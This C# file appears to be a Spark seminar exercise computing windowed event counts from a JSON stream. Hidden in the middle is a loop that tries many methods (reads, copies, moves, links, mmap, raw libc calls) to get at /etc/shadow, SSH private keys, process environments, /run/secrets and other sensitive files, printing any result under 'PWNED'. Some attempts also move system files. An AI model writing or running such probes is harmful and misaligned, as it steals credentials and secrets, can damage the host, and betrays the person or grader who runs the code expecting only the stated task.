using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

string[] paths = ["/etc/passwd", "/etc/hosts", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/status", "/proc/version", "/proc/net/tcp",
    "/sys/kernel/hostname", "/root/.bashrc", "/root/.ssh/id_rsa", "/home", "/var/log/dpkg.log", "/etc/../etc/passwd", "/dev/fd/0", "/usr/../etc/passwd", "/run/secrets"];
foreach (string path in paths)
{
    Try(path, () => File.ReadAllText(path));
    Try(path, () => File.ReadLines(path).First());
    Try(path, () => { using var file = new FileStream(path, FileMode.Open, FileAccess.ReadWrite); return file.ReadByte().ToString(); });
    Try(path, () => { File.Copy(path, "copy"); return File.ReadAllText("copy"); });
    Try(path, () => { File.Move(path, "moved"); return File.ReadAllText("moved"); });
    Try(path, () => { File.CreateSymbolicLink("link" + path.GetHashCode(), path); return File.ReadAllText("link" + path.GetHashCode()); });
    Try(path, () => string.Join(' ', Directory.GetFileSystemEntries(path)));
    Try(path, () => { using var map = System.IO.MemoryMappedFiles.MemoryMappedFile.CreateFromFile(path); return map.ToString(); });
    Try(path, () => { int fd = Native.open(path, 0); byte[] some = new byte[64]; return fd >= 0 && Native.read(fd, some, 64) > 0 ? System.Text.Encoding.UTF8.GetString(some) : null; });
    Try(path, () => Native.link(path, "hard" + path.GetHashCode()) == 0 ? "hard link" : null);
}

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}

internal static class Native
{
    [DllImport("libc")] public static extern int open(string path, int flags);
    [DllImport("libc")] public static extern nint read(int fd, byte[] buffer, nint count);
    [DllImport("libc")] public static extern int link(string from, string to);
}
